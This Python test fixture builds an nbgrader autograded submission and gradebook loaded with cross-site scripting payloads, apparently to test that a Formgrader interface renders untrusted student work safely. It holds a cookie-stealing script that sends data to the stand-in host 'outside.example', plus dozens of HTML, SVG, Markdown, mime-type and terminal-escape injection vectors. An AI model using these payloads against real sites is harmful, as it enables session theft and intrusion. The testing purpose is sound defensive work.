"""A submission that tries everything to run a script, or to fetch something, on the page of whoever opens it."""

from __future__ import annotations

import base64
import warnings
from pathlib import Path

import nbformat
from nbformat.v4 import new_code_cell, new_markdown_cell, new_notebook, new_output, new_raw_cell
from nbgrader.api import Gradebook
from nbgrader.utils import compute_checksum
from sqlalchemy.exc import SAWarning

from courseware.teach import nbgraderconfig

OUTSIDE = "outside.example"
# Sets a variable, reads the cookie that Formgrader's own requests need, sends it away, and opens a dialog.
RUN = f"window.hacked=document.cookie||1;new Image().src='//{OUTSIDE}/'+window.hacked;alert(1)"
SVG = f'<svg xmlns="http://www.w3.org/2000/svg" onload="{RUN}"><script>{RUN}</script></svg>'
PNG = "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=="  # 1 x 1


def _base64(page: str) -> str:
    return base64.b64encode(page.encode()).decode()


# Each works in some browser, sanitiser or Markdown renderer, or once did.
HTML = {
    "script": f"<script>{RUN}</script>",
    "script in capitals, never closed": f"<SCRIPT >{RUN}//",
    "script from outside": f'<script src="https://{OUTSIDE}/a.js"></script>',
    "script split by a tag": f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    "module": f'<script type="module">import "https://{OUTSIDE}/m.js"</script>',
    "handler": f'<img src="x" onerror="{RUN}">',
    "handler without quotes": "<img/src/onerror=alert(1)>",
    "handler after a slash": f'<p/onmouseover="{RUN}" style="position:fixed;inset:0">hover</p>',
    "handler on details": f'<details open ontoggle="{RUN}"><summary>s</summary></details>',
    "handler on focus": f'<a href="#" autofocus tabindex="0" onfocus="{RUN}">f</a>',
    "svg": SVG,
    "svg animation": f'<svg><animate onbegin="{RUN}" attributeName="x" dur="1s"></svg>',
    "mathml": f'<math><mtext><table><mglyph><style><img src=x onerror="{RUN}">',
    "mutation through noscript": f'<noscript><p title="</noscript><img src=x onerror={RUN}>">',
    "mutation through a comment": f'<!--><img src=x onerror="{RUN}">-->',
    "mutation through a title": f'<title><a title="</title><img src=x onerror={RUN}>">',
    "mutation through a textarea": f'<textarea><a title="</textarea><img src=x onerror={RUN}>">',
    "template": f"<template><script>{RUN}</script></template>",
    "iframe": f'<iframe src="https://{OUTSIDE}/"></iframe>',
    "iframe with a page": f'<iframe srcdoc="<script>parent.{RUN}</script>"></iframe>',
    "object": f'<object data="https://{OUTSIDE}/o"></object>',
    "embed": f'<embed src="https://{OUTSIDE}/e">',
    "link to code": f'<a href="javascript:{RUN}">click</a>',
    "link to code, disguised": f'<a href=" jav&#x09;ascript&colon;{RUN}">click</a>',
    "link to a page as data": f'<a href="data:text/html;base64,{_base64(f"<script>{RUN}</script>")}">click</a>',
    "link to a file that was handed in": '<a href="evil.html">click</a>',
    "form": f'<form action="https://{OUTSIDE}/"><input name="a"><button formaction="javascript:{RUN}">b</button>',
    "base": f'<base href="https://{OUTSIDE}/">',
    "refresh": f'<meta http-equiv="refresh" content="0;url=https://{OUTSIDE}/">',
    "style sheet": f"<style>@import url(https://{OUTSIDE}/s.css); * {{background:url(//{OUTSIDE}/b)}}</style>",
    "link": f'<link rel="stylesheet" href="https://{OUTSIDE}/l.css"><link rel="prefetch" href="//{OUTSIDE}/p">',
    "style": f'<p style="background:url(https://{OUTSIDE}/c);text-align:left">p</p>',
    "style with a function": f'<p style="width:url(//{OUTSIDE}/w)">p</p>',
    "style with an escape": f'<p style="background:\\75rl(https://{OUTSIDE}/c)">p</p>',
    "picture": f'<img src="https://{OUTSIDE}/i.png" alt="i">',
    "picture without a protocol": f'<img src="//{OUTSIDE}/i.png" alt="i">',
    "picture set": f'<img srcset="https://{OUTSIDE}/i.png 2x" alt="i">',
    "picture that is a page": f'<img alt="s" src="data:image/svg+xml;base64,{_base64(SVG)}">',
    "picture that is none": f'<img alt="s" src="data:image/png;base64,{_base64(SVG)}">',
    "video": f'<video poster="https://{OUTSIDE}/v" src="https://{OUTSIDE}/v" onerror="{RUN}"></video>',
    "background": f'<table background="https://{OUTSIDE}/t"><tr><td>t</td></tr></table>',
    "id that a script looks up": '<input id="q1" class="score"><div id="q1" class="nbgrader_cell comment">x</div>',
    "end of the page": f"</div></section></main></body></html><script>{RUN}</script>",
    "deep": "<div>" * 20_000 + f"<script>{RUN}</script>",
}
MARKDOWN = {
    **HTML,
    "Markdown link to code": f"[click](javascript:{RUN.replace('(', '%28').replace(')', '%29')})",
    "Markdown link by reference": f"[click][r]\n\n[r]: <javascript:{RUN}>",
    "Markdown automatic link": "<javascript:alert(1)>",
    "Markdown picture": f"![p](https://{OUTSIDE}/m.png)",
    "Markdown picture that breaks out": f'![" onerror="{RUN}](x)',
    "Markdown attachment": "![a](attachment:a.svg) ![b](attachment:b.png) ![d](attachment:d.html)",
    "Markdown attachment that is missing": "![a](attachment:nowhere.png)",
    "Markdown diagram": f"```mermaid\n</pre><script>{RUN}</script>\n```",
    "Markdown code in an odd language": f'```"><script>{RUN}</script>\nx\n```',
    "mathematics": f"$$<script>{RUN}</script>$$ $\\href{{javascript:{RUN}}}{{x}}$",
    "heading": f'# <img src=x onerror="{RUN}"> heading',
    "quotes": "> " * 5_000 + "deep",
}
DATA = {
    "javascript": {"application/javascript": RUN, "text/plain": "j"},
    "svg": {"image/svg+xml": SVG},
    "latex": {"text/latex": f"$$<script>{RUN}</script>$$"},
    "markdown": {"text/markdown": f"[x](javascript:1)<script>{RUN}</script>"},
    "widget": {
        "application/vnd.jupyter.widget-view+json": {"model_id": f'</script><script>{RUN}"', "version_major": 2}
    },
    "png that is none": {"image/png": f'"><script>{RUN}</script>'},
    "png that is a page": {"image/png": _base64(SVG)},
    "pdf": {"application/pdf": _base64("%PDF")},
    "mermaid": {"text/vnd.mermaid": f"</pre><script>{RUN}</script>"},
    "text": {"text/plain": f"<script>{RUN}</script>"},
    "half of a letter": {"text/plain": "\ud800 \u202eabc \x00"},
}
STREAMS = (
    f"\x1b[31m<script>{RUN}</script>\x1b[0m",
    f'\x1b[38;2;1"onmouseover={RUN};2;3mx\x1b[0m',
    f"\x1b]8;;javascript:{RUN}\x07click\x1b]8;;\x07",
)
HIDDEN = 'check.that(secret_of_the_test == "the expected value", hint="Think of the year.")'
SENTENCE = "The year is that of adoption. [MIS-year]"
SOLUTION = "The written solution of the master"


def notebook() -> nbformat.NotebookNode:
    """Return the submission as it looks after autograding: two items, the second marked by a person."""
    short = [source for source in MARKDOWN.values() if len(source) < 2_000]
    written = new_markdown_cell(
        "\n\n".join(short) + f"\n\n<!-- BEGIN SOLUTION -->\n{SOLUTION}\n<!-- END SOLUTION -->",
        metadata=_marks("q2", grade=True, solution=True, points=2),
        attachments={
            "a.svg": {"image/svg+xml": _base64(SVG)},
            "b.png": {"image/png": _base64(SVG)},
            "d.html": {"text/html": _base64(f"<script>{RUN}</script>")},
        },
    )
    cells = [
        new_markdown_cell("# Exercise\n\nAnswer both items.", metadata=_marks("intro", locked=True)),
        new_markdown_cell("## Item 1: a number (3 points)", metadata=_marks("q1-question", locked=True)),
        new_code_cell("answer = 41", metadata=_marks("q1-answer", solution=True), outputs=_outputs()),
        new_code_cell(
            f"chosen = answer\n### BEGIN HIDDEN TESTS\n{HIDDEN}\n### END HIDDEN TESTS",
            metadata=_marks("q1", grade=True, locked=True, points=3),
            outputs=[
                new_output("stream", name="stdout", text=f"{HIDDEN}\n"),
                new_output(
                    "error",
                    ename="Off",
                    evalue=SENTENCE,
                    traceback=[f"\x1b[0;32m----> 3 {HIDDEN[:9]}\x1b[0m{HIDDEN[9:]}", f"Off: {SENTENCE}"],
                ),
            ],
        ),
        new_markdown_cell("## Item 2: a reason (2 points)", metadata=_marks("q2-question", locked=True)),
        written,
        *(new_markdown_cell(source) for source in MARKDOWN.values()),
        *(
            new_raw_cell(HTML["script"], metadata={"raw_mimetype": kind, "format": kind})
            for kind in ("text/html", "", "TEXT/HTML", "text/markdown", "application/javascript")
        ),
        new_code_cell(
            f"# <script>{RUN}</script>",
            metadata={
                "tags": [f'"><script>{RUN}</script>'],
                "alt": f'"><script>{RUN}</script>',
                "magics_language": f'"><script>{RUN}</script>',
                "nbgrader": {"grade_id": f'"><script>{RUN}</script>', "grade": True, "points": f"<script>{RUN}"},
            },
            id=f"x{'y' * 20}",
            outputs=[new_output("display_data", data={"image/png": PNG}, metadata={"image/png": {"width": '"><b'}})],
        ),
    ]
    one = new_notebook(cells=cells)
    one.metadata = nbformat.from_dict(
        {
            "title": f"</title><script>{RUN}</script>",
            "kernelspec": {"name": f'"><script>{RUN}</script>', "display_name": f"<script>{RUN}</script>"},
            "language_info": {"name": f'"><script>{RUN}</script>', "pygments_lexer": f'"><script>{RUN}</script>'},
            "widgets": {"application/vnd.jupyter.widget-state+json": {"state": {"a": f"</script><script>{RUN}"}}},
            "course": {"notes": [f"A cell was put back. <script>{RUN}</script>"], "unprotected": True},
        }
    )
    return one


def _marks(grade_id: str, **said: object) -> dict:
    marks = {"grade": False, "solution": False, "locked": False, "task": False, "schema_version": 3, **said}
    return {"nbgrader": {"grade_id": grade_id, **marks}}


def _outputs() -> list:
    return [
        *(new_output("display_data", data={"text/html": page}, metadata={"isolated": True}) for page in HTML.values()),
        *(new_output("display_data", data=data) for data in DATA.values()),
        *(new_output("stream", name=name, text=text) for text in STREAMS for name in ("stdout", "stderr")),
        new_output("stream", name="stdout", text=f"I looked: {HIDDEN}\nkept\n"),
        new_output("display_data", data={"text/html": f"<p>{HIDDEN[:20]}<b>{HIDDEN[20:]}</b></p>", "text/plain": "p"}),
        new_output("execute_result", data={"text/html": TABLE, "text/plain": "table"}),
        new_output("error", ename="E", evalue=f"<script>{RUN}</script>", traceback=[f"<script>{RUN}</script>"]),
    ]


# What an honest output needs, as the course's own tables and figures are written.
TABLE = (
    '<style scoped>.dataframe {color: red}</style><table class="dataframe"><caption style="text-align:left">Parties'
    '</caption><thead><tr><th scope="col" style="text-align:right;white-space:nowrap">year</th></tr></thead>'
    f'<tbody><tr><td>2020</td></tr></tbody></table><figure><img alt="A dot." src="data:image/png;base64,{PNG}">'
    "<figcaption>One dot</figcaption></figure>"
)


def class_folder(folder: Path, student: str = "ada") -> Path:
    """Write a class with the submission of one student, autograded, and its gradebook; return the folder."""
    folder.mkdir(parents=True)
    (folder / "nbgrader_config.py").write_text(nbgraderconfig.render(course_id="class"), encoding="utf-8")
    place = folder / "autograded" / student / "ps1"
    place.mkdir(parents=True)
    one = notebook()
    # Written with escapes, since a half of a letter has no bytes of its own.
    (place / "ps1.ipynb").write_text(nbformat.v4.writes(one, ensure_ascii=True), encoding="ascii")
    (folder / "source" / "ps1").mkdir(parents=True)
    with (
        warnings.catch_warnings(action="ignore", category=SAWarning),  # nbgrader's own, from add_submission
        Gradebook(f"sqlite:///{folder / 'gradebook.db'}", "class") as book,
    ):
        book.add_assignment("ps1")
        book.add_notebook("ps1", "ps1")
        book.add_grade_cell("q1", "ps1", "ps1", max_score=3, cell_type="code")
        book.add_grade_cell("q2", "ps1", "ps1", max_score=2, cell_type="markdown")
        book.add_solution_cell("q1-answer", "ps1", "ps1")
        book.add_solution_cell("q2", "ps1", "ps1")
        for cell in one.cells[:6]:
            name = cell.metadata.nbgrader.grade_id
            book.add_source_cell(
                name, "ps1", "ps1", cell_type=cell.cell_type, source=cell.source, checksum=compute_checksum(cell)
            )
        book.add_student(student, first_name=f"<script>{RUN}</script>", last_name=f"<img src=x onerror='{RUN}'>")
        book.add_submission("ps1", student)
        mark = book.find_grade("q1", "ps1", "ps1", student)
        mark.auto_score, mark.needs_manual_grade = 1, False
        book.find_grade("q2", "ps1", "ps1", student).needs_manual_grade = True
        book.find_comment("q1-answer", "ps1", "ps1", student).manual_comment = "Look at **adoption**.<script>1</script>"
        book.db.commit()
    return folder
